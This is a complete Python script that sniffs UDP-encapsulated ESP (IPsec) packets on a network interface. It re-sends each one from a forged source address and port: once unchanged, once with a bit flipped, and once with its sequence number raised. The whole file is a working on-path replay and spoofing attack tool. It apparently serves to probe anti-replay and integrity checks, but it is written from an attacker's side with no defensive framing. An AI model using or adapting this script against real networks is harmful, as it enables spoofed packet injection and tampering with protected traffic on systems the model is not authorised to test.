#!/usr/bin/env python3
"""replay.py DEVICE DST DPORT SRC SPORT COUNT - a stranger in between: catch COUNT ESP packets to DST:DPORT that pass DEVICE,
then send each of them again, and each with one bit turned, as if they came from SRC:SPORT."""
import socket, struct, sys

device, dst, dport, src, sport, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), int(sys.argv[6])
tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
tap.bind((device, 0x0003))
caught = []
while len(caught) < count:
    packet, where = tap.recvfrom(65535)
    head = (packet[0] & 15) * 4
    if where[1] != 0x0800 or packet[9] != 17 or packet[16:20] != socket.inet_aton(dst):
        continue
    to, length = struct.unpack("!HH", packet[head + 2:head + 6])
    data = packet[head + 8:head + length]
    if to == dport and len(data) > 8 and data[:4] != b"\0\0\0\0" and data not in caught:
        caught.append(data)

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b"\0")
for data in caught:
    newer = data[:4] + struct.pack("!I", struct.unpack("!I", data[4:8])[0] + 1000) + data[8:]
    for sent in (data, data[:-1] + bytes([data[-1] ^ 1]), newer):
        udp = struct.pack("!HHHH", sport, dport, 8 + len(sent), 0) + sent
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
        raw.sendto(ip + udp, (dst, 0))
